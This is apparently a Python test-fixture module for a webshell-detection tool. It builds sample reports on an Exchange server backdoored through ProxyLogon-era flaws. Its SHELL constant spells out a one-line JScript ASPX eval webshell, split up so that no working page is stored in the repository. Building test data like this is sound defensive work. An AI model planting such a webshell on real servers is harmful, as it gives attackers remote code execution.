"""Reports made by hand: small, complete, and with every kind of thing in them."""

from __future__ import annotations

from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import fields, is_dataclass, replace
from datetime import UTC, date, datetime
from enum import Enum
from typing import Any

from webshellhunt.model.artifact import Timestamps
from webshellhunt.model.findings import Evidence, FactValue, Finding, Gap, Span
from webshellhunt.model.patches import CveState, FixState, PatchState, Wave, WaveState, Witness, WitnessKind
from webshellhunt.model.places import Role, Root, Url, Volume
from webshellhunt.model.report import (
    Assessment,
    AssessmentState,
    Coverage,
    ExchangeInstall,
    Host,
    InputState,
    Report,
    Run,
    RunOptions,
    Step,
)
from webshellhunt.model.rules import Confidence, Rule, RuleOrigin, Severity
from webshellhunt.model.times import TimeBasis
from webshellhunt.model.verdict import Disposition, Presence, Subject, SubjectKind, Verdict

# Joined here, so that no tracked file holds a page that works.
SHELL = "<" + '%@ Page Language="JScript"%' + "><" + "%ev" + 'al(Request.Item["orange"],"unsafe")' + ";%" + ">"
SECRET = "0123456789ABCDEF0123456789ABCDEF"
ITEMS = (r"C:\inetpub\wwwroot\aspnet_client\x.aspx", r"C:\inetpub\wwwroot\y.aspx")
URLS = (
    Url("https://*/aspnet_client/x.aspx", "Default Web Site"),
    Url("http://*/aspnet_client/x.aspx", "Default Web Site"),
    Url("https://*:444/aspnet_client/x.aspx", "Exchange Back End"),
    Url("https://*:444/other/x.aspx", "Exchange Back End"),
)
WHEN = datetime(2021, 3, 3, 4, 5, 6, tzinfo=UTC)

EVAL = Rule(
    id="WSH1001",
    slug="request-reaches-eval",
    title="What a visitor sends is evaluated as code",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    techniques=("T1505.003",),
    references=("https://attack.mitre.org/software/S0020/",),
)
PLACE = Rule(
    id="WSH6001",
    slug="code-out-of-place",
    title="Server code where none belongs",
    severity=Severity.HIGH,
    confidence=Confidence.MEDIUM,
)
PUBLIC = Rule(
    id="SomeoneElses_Rule",
    slug="SomeoneElses_Rule",
    title="Somebody's rule",
    severity=Severity.MEDIUM,
    confidence=Confidence.LOW,
    origin=RuleOrigin.PUBLIC_SIGNATURE,
)
HAS_ALL = Coverage(*[InputState.HELD] * len(Coverage._fields))
KEY_RULE = Rule(
    id="WSH4002", slug="key-in-the-open", title="A fixed key", severity=Severity.LOW, confidence=Confidence.LOW
)


def finding(
    rule: Rule = EVAL,
    message: str = 'the request\'s item "orange" reaches eval',
    excerpt: str = SHELL,
    path: str = r"C:\inetpub\wwwroot\aspnet_client\x.aspx",
    facts: dict[str, FactValue] | None = None,
) -> Finding:
    """Return a finding with one piece of evidence."""
    evidence = Evidence(path, "text", Span(30, 30 + len(excerpt)), 1, 31, excerpt)
    return Finding(rule, message, rule.severity, rule.confidence, (evidence,), facts or {})


def verdict(
    path: str = r"C:\inetpub\wwwroot\aspnet_client\x.aspx",
    disposition: Disposition = Disposition.MALICIOUS,
    *findings: Finding,
    presence: Presence = Presence.PRESENT,
    sha256: str | None = "ab" * 32,
) -> Verdict:
    """Return a verdict whose reasons are the messages of its findings."""
    subject = Subject(
        SubjectKind.FILE,
        path,
        source_path=f"/mnt/c/{path[3:]}".replace("\\", "/"),
        presence=presence,
        role=Role.ASPNET_CLIENT,
        sha256=sha256,
        size_bytes=1812,
        times=Timestamps(modified_utc=WHEN, created_utc=WHEN.replace(microsecond=7)),
        executable=True,
    )
    return Verdict(subject, disposition, tuple(f.message for f in findings), tuple(findings))


def report(
    *verdicts: Verdict, gaps: Sequence[Gap] = (), interrupted: bool = False, location: str = "evidence"
) -> Report:
    """Return the report of an Exchange server with these verdicts."""
    counts = Counter(v.disposition.label for v in verdicts)
    sentence = f"{counts['malicious']} back doors found."
    return Report(
        location=location,
        host=Host(
            (Volume("C", "C", assumed=True, reason="no hive"),),
            (ExchangeInstall(r"C:\Exchange", "15.2.1118.7"),),
            iis=True,
        ),
        roots=(Root("C/inetpub/wwwroot", r"C:\inetpub\wwwroot", Role.WWWROOT, "the default web site"),),
        verdicts=tuple(verdicts),
        gaps=tuple(gaps),
        coverage=HAS_ALL._replace(
            configuration=InputState.PARTIAL, compiled=InputState.MISSING, logs=InputState.MISSING
        ),
        assessment=Assessment(
            AssessmentState.BACKDOORED, sentence, (Step("Preserve first."), Step("Then remove these files.", ITEMS))
        ),
        counts={**counts, "files": 1234},
        interrupted=interrupted,
        times=(TimeBasis(location, True, "it is a read-only mount of NTFS"),),
    )


def patch_state() -> PatchState:
    """Return the patch state of a server whose ProxyLogon is closed and whose ProxyShell is open."""
    days = (date(2021, 1, 3), date(2021, 3, 2), date(2021, 3, 2), date(2021, 5, 31))
    logon = Wave("proxylogon", "ProxyLogon", ("CVE-2021-26855",), *days, leaves_pages=True, product="exchange")
    shell = logon._replace(slug="proxyshell", name="ProxyShell", cves=("CVE-2021-34473",))
    return PatchState(
        path=r"C:\Exchange",
        build="15.2.792.10",
        basis=WitnessKind.SETUP_PROGRAM,
        exact=True,
        known=True,
        product="Exchange 2019",
        update="CU8 Mar21SU",
        released=date(2021, 3, 2),
        standing="between two others",
        support_ends=date(2025, 10, 14),
        installed=date(2021, 3, 5),
        installed_by=WitnessKind.SETUP_LOG,
        witnesses=(Witness(WitnessKind.SETUP_LOG, r"C:\ExchangeSetup.log", "15.2.792.10", WHEN, "KB5000871"),),
        cves=(
            CveState("CVE-2021-26855", FixState.CLOSED, "Mar21SU", "15.2.792.10"),
            CveState("CVE-2021-34473", FixState.OPEN, "Apr21SU", "15.2.792.13"),
            CveState("CVE-2021-28480", FixState.OPEN, "Apr21SU", "15.2.792.13"),
            CveState("CVE-2021-1730", FixState.UNSETTLED, "Feb21SU", "15.2.721.8", "more than a build"),
        ),
        waves=(
            WaveState(logon, FixState.CLOSED, logon.cves, date(2021, 3, 5), WitnessKind.SETUP_LOG, closed_exactly=True),
            WaveState(shell, FixState.OPEN, shell.cves),
        ),
    )


def nothing_found() -> Report:
    """Return the report of a plain folder in which nothing was found."""
    assessment = Assessment(AssessmentState.NOTHING_FOUND, "Nothing was found in the examined files.")
    return replace(report(), host=Host(), coverage=Coverage(pages=InputState.HELD), assessment=assessment)


def full_report() -> Report:
    """Return a report with one of everything."""
    facts: dict[str, FactValue] = {"request_key": "orange", "planted_at": "2021-03-03T04:05:06Z", "server": "EXCH01"}
    key = finding(
        KEY_RULE,
        f"the key {SECRET} is fixed",
        f'<machineKey validationKey="{SECRET}" decryptionKey="FEDC" />',
        r"C:\inetpub\wwwroot\web.config",
        {"machine_key": SECRET},
    )
    shell = [finding(facts=facts), finding(PLACE, "server code where none belongs")]
    somebodys = finding(PUBLIC, "Somebody's rule")
    made = report(
        verdict(r"C:\inetpub\wwwroot\aspnet_client\x.aspx", Disposition.MALICIOUS, *shell),
        verdict(r"C:\gone.aspx", Disposition.SUSPICIOUS, somebodys, presence=Presence.DELETED, sha256="cd" * 32),
        verdict(r"C:\inetpub\wwwroot\web.config", Disposition.UNEXPLAINED, key, sha256="ef" * 32),
        verdict(r"C:\inetpub\wwwroot\default.aspx", Disposition.BENIGN, sha256=None),
        verdict(r"C:\Exchange\errorFE.aspx", Disposition.KNOWN_GOOD, sha256="01" * 32),
        gaps=(
            Gap("unreadable", "examine", r"C:\locked.aspx", "permission denied", matters=True),
            Gap("link-outside", "walk", r"C:\link", "leads out of the location"),
            Gap("link-outside", "walk", r"C:\link2", "leads out of the location"),
        ),
    )
    first, *others = made.verdicts
    first = replace(first, subject=replace(first.subject, urls=URLS))
    options = RunOptions(("rules/extra.yar",), ("clean.baseline",), ("known.toml",), 3, "yara-x")
    return replace(
        made,
        host=made.host._replace(name="EXCH01"),
        verdicts=(first, *others),
        patch_state=patch_state(),
        run=Run(datetime(2026, 10, 18, 5, 0, 7, tzinfo=UTC), date(2026, 10, 13), options, "0.1.0"),
    )


_FIXED = frozenset({"sha256", "code", "stage", "counts"})


def with_every_string(value: Any, text: str) -> Any:
    """Return a copy of a report (or a part of it) in which every free string is this one."""
    if isinstance(value, Enum):
        return value
    if isinstance(value, str):
        return text
    if isinstance(value, Timestamps):
        return value
    if isinstance(value, tuple):
        each_of = (with_every_string(each, text) for each in value)
        return value._make(each_of) if hasattr(value, "_make") else tuple(each_of)
    if isinstance(value, Mapping):
        return {name: with_every_string(each, text) for name, each in value.items()} | {text: text}
    if is_dataclass(value) and not isinstance(value, type):
        free = {each.name: getattr(value, each.name) for each in fields(value) if each.name not in _FIXED}
        return replace(value, **{name: with_every_string(each, text) for name, each in free.items()})
    return value
